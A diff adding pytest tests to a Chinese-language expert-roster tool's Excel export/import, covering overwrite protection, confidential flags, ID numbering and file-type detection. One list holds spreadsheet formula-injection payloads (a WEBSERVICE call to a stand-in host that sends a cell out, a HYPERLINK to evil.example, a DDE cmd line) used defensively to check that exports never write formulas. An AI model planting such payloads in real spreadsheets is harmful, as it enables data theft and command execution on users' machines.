@@ -10,6 +10,7 @@ from __future__ import annotations
 import hashlib
 import io
 import os
+import shutil
 import subprocess
 import sys
 import time
@@ -355,7 +356,7 @@ HOSTILE = {
                            "list.xlsx: error E701 不是 Excel 工作簿：这是文本文件"),
     "pdf renamed .xlsx": (lambda t: _write(t, "scan.xlsx", b"%PDF-1.7\n%\xe2\xe3\n1 0 obj"), "scan.xlsx: error E701 不是 Excel 工作簿：这是 PDF 文件"),
     "empty file": (lambda t: _write(t, "empty.xlsx", b""), "empty.xlsx: error E701 不是 Excel 工作簿：文件是空的"),
-    "zip renamed .xlsx": (lambda t: _zip(t / "photos.xlsx", {"a.txt": b"x"}), "photos.xlsx: error E701 不是 Excel 工作簿：这是zip 压缩包"),
+    "zip renamed .xlsx": (lambda t: _zip(t / "photos.xlsx", {"a.txt": b"x"}), "photos.xlsx: error E701 不是 Excel 工作簿：这是 zip 压缩包"),
     "docx renamed .xlsx": (lambda t: _zip(t / "letter.xlsx", {"word/document.xml": b"<w/>"}),
                            "letter.xlsx: error E701 不是 Excel 工作簿：这是Word 文档"),
     "truncated zip": (lambda t: _write(t, "cut.xlsx", form(t / "whole.xlsx", [NEW_EXPERT]).read_bytes()[:300]),
@@ -454,11 +455,13 @@ def test_export_refuses_to_overwrite_a_file_it_did_not_write(project, tmp_path):
     other = tmp_path / "budget.xlsx"
     openpyxl.Workbook().save(other)
     with pytest.raises(XlsxError, match="不是本工具生成的Excel 工作簿"):
-        write_export(project.root, other, profile="public", today=TODAY)
+        write_export(project.root, other, profile="public", today=TODAY, replace=True)
     write_export(project.root, tmp_path / "mine.xlsx", profile="public", today=TODAY)
-    write_export(project.root, tmp_path / "mine.xlsx", profile="public", today=TODAY)  # our own: replaced
+    with pytest.raises(XlsxError, match="已经存在，没有覆盖：它可能是单位填好的登记表或改过的导出"):
+        write_export(project.root, tmp_path / "mine.xlsx", profile="public", today=TODAY)  # not without --replace
+    write_export(project.root, tmp_path / "mine.xlsx", profile="public", today=TODAY, replace=True)  # our own: replaced
     with pytest.raises(XlsxError, match="是公开版的Excel 工作簿，不能写入内网版"):
-        write_export(project.root, tmp_path / "mine.xlsx", profile="intranet", today=TODAY)
+        write_export(project.root, tmp_path / "mine.xlsx", profile="intranet", today=TODAY, replace=True)
 
 
 def test_a_project_with_errors_is_not_imported_into(project, tmp_path, capsys):
@@ -486,3 +489,119 @@ def test_intranet_site_offers_the_workbooks_and_the_public_site_does_not(sample_
     assert "downloads/roster.xlsx" in page and "下载空白登记表（Excel）" in page
     assert not list(sample_public.rglob("*.xlsx"))
     assert "roster.xlsx" not in (sample_public / "downloads" / "index.html").read_text(encoding="utf-8")
+
+
+# ---- the outside review of issue 12 ----
+
+@pytest.fixture
+def full_project(tmp_path: Path) -> Path:
+    """This repository's own sample (categories whose names hold 、, confidential experts, split files)."""
+    root = tmp_path / "full"
+    root.mkdir()
+    for name in ("data", "content"):
+        shutil.copytree(ROOT / name, root / name)
+    shutil.copy(ROOT / "mkdocs.yml", root / "mkdocs.yml")
+    return root
+
+
+@pytest.mark.parametrize("profile", ["public", "intranet"])
+def test_export_then_import_changes_nothing_on_the_full_sample(full_project, tmp_path, profile):
+    names = [c.name for c in check(full_project, today=TODAY).project.categories]
+    assert any("、" in name for name in names)  # the case: a drop-down choice that holds the list separator
+    out = write_export(full_project, tmp_path / f"{profile}.xlsx", profile=profile, today=TODAY)
+    before = tree_digest(full_project)
+    result = import_workbook(out, full_project, today=TODAY)
+    assert result.ok and not result.changes, [d.text() for d in result.diagnostics][:5]
+    assert tree_digest(full_project) == before
+
+
+def test_a_category_chosen_from_the_drop_down_is_one_category(project, tmp_path):
+    project.append("data/categories.yaml", "- id: mid\n  name: 有突出贡献的中青年科学、技术、管理专家\n  scope: key\n"
+                                           "  basis: {policy: cq-2002-110, clause: 第二条}\n")
+    row = {**NEW_EXPERT, "专家类别1": "有突出贡献的中青年科学、技术、管理专家；优秀博士后研究人员"}
+    result = import_workbook(form(tmp_path / "r.xlsx", [row]), project.root, today=TODAY)
+    assert result.ok, [d.text() for d in result.diagnostics]
+    new = [e for e in check(project.root, today=TODAY).project.experts if e.name == "孙新"]
+    assert [e.categories for e in new] == [("mid", "postdoc")] or [len(e.categories) for e in new] == [2]
+
+
+HOSTILE_TEXT = ['=HYPERLINK("http://evil.example/x","点击")', "=1+1", '=WEBSERVICE("http://x/?"&V5)', "=cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("profile", ["public", "intranet"])
+def test_no_text_becomes_a_formula_in_an_export(project, tmp_path, profile):
+    for n, text in enumerate(HOSTILE_TEXT):
+        quoted = text.replace("'", "''")
+        project.replace("data/experts.yaml", f"  field: {_field_of(project, n)}\n", f"  field: '{quoted}'\n")
+    assert not check(project.root, today=TODAY).errors
+    out = write_export(project.root, tmp_path / "x.xlsx", profile=profile, today=TODAY)
+    with zipfile.ZipFile(out) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
+    book = openpyxl.load_workbook(out)
+    written = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    shown = [t for t in HOSTILE_TEXT if t in written]
+    assert shown and all(book[FORM_SHEET].cell(1, 1).data_type != "f" for _ in shown)
+
+
+def _field_of(project, n: int) -> str:
+    fields = [line.split(": ", 1)[1] for line in project.read("data/experts.yaml").splitlines() if line.startswith("  field: ")]
+    return fields[n]
+
+
+def test_a_return_may_not_lift_confidential_and_says_what_else_it_changes(project, tmp_path):
+    project.replace("data/experts.yaml", "  name: 张院士\n", "  name: 张院士\n")  # e1 is the case
+    text = project.read("data/experts.yaml")
+    assert "  confidential: true\n" in text
+    secret = next(e for e in check(project.root, today=TODAY).project.experts if e.confidential)
+    before = tree_digest(project.root)
+    lifted = import_workbook(form(tmp_path / "a.xlsx", [{"专家编号": secret.id, "涉密": "否"}]), project.root, today=TODAY)
+    assert [d.code for d in lifted.errors] == ["E716"] and tree_digest(project.root) == before
+    assert lifted.errors[0].location.path == "a.xlsx!登记表!" + lifted.errors[0].location.path.split("!")[-1]
+    renamed = import_workbook(form(tmp_path / "b.xlsx", [{"专家编号": "e1", "专家姓名": "张三"}]), project.root,
+                              today=TODAY, dry_run=True)
+    assert [d.code for d in renamed.diagnostics] == ["E715"] and renamed.ok
+    assert "从“张院士”改为“张三”：请确认是同一位专家" in renamed.diagnostics[0].message
+    quiet = [e for e in check(project.root, today=TODAY).project.experts if not e.public_consent and not e.confidential]
+    if quiet:
+        consent = import_workbook(form(tmp_path / "c.xlsx", [{"专家编号": quiet[0].id, "同意公开": "是"}]), project.root,
+                                  today=TODAY, dry_run=True)
+        assert "E717" in [d.code for d in consent.diagnostics]
+
+
+def test_a_workbook_is_read_by_its_content_not_its_name(project, tmp_path):
+    xls_named_xlsx = tmp_path / "return.xlsx"
+    xls_named_xlsx.write_bytes((FIXTURES / "return.xls").read_bytes())
+    assert import_workbook(xls_named_xlsx, project.root, today=TODAY, dry_run=True).ok
+    xlsx_named_xls = tmp_path / "return2.xls"
+    xlsx_named_xls.write_bytes(form(tmp_path / "r.xlsx", [NEW_EXPERT]).read_bytes())
+    assert import_workbook(xlsx_named_xls, project.root, today=TODAY, dry_run=True).ok
+
+
+def test_a_second_visible_sheet_is_said_not_to_be_read(project, tmp_path):
+    path = form(tmp_path / "r.xlsx", [NEW_EXPERT])
+    book = openpyxl.load_workbook(path)
+    extra = book.copy_worksheet(book[FORM_SHEET])
+    extra.title = "登记表(2)"
+    book.save(path)
+    result = import_workbook(path, project.root, today=TODAY, dry_run=True)
+    assert [d.text() for d in result.diagnostics if d.code == "E705"] == [
+        "r.xlsx!登记表(2): warning E705 工作表“登记表(2)”没有读取（只读取“登记表”）。提示：填在其他工作表中的专家不会导入：请都填在“登记表”中"]
+
+
+def test_many_new_experts_get_consecutive_ids(project, tmp_path):
+    rows = [{**NEW_EXPERT, "专家姓名": f"孙新{n}", "联系领导": None, "联系开始日期": None, "联系结束日期": None,
+             "领导同意日期": None, "专家同意日期": None} for n in range(30)]
+    rows = [{k: v for k, v in row.items() if v is not None} for row in rows]
+    result = import_workbook(form(tmp_path / "r.xlsx", rows), project.root, today=TODAY, dry_run=True)
+    assert result.ok, [d.text() for d in result.diagnostics][:3]
+    added = [line.split()[1] for line in result.changes if line.startswith("新增专家")]
+    numbers = [int(ident.lstrip("e")) for ident in added]
+    assert len(added) == 30 and numbers == list(range(numbers[0], numbers[0] + 30))
+
+
+def test_the_template_does_not_replace_a_filled_return(project, tmp_path):
+    filled = form(tmp_path / "登记表.xlsx", [NEW_EXPERT])
+    before = filled.read_bytes()
+    assert run("xlsx", "template", str(project.root), "-o", str(filled)) == 1
+    assert filled.read_bytes() == before
